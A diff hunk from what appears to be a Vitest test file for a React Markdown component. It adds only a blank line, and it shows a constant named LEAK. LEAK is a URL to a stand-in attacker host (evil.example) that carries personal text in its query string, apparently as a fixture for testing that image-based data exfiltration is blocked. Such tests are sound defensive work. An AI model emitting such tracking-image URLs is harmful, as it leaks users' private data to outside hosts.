@@ -4,6 +4,7 @@
  */
 import { render, screen } from '@testing-library/react';
 import { describe, expect, it } from 'vitest';
+
 import { Markdown } from '../../src/markdown/Markdown';
 
 const LEAK = 'https://evil.example/pixel.png?q=my%20name%20is%20Lina';
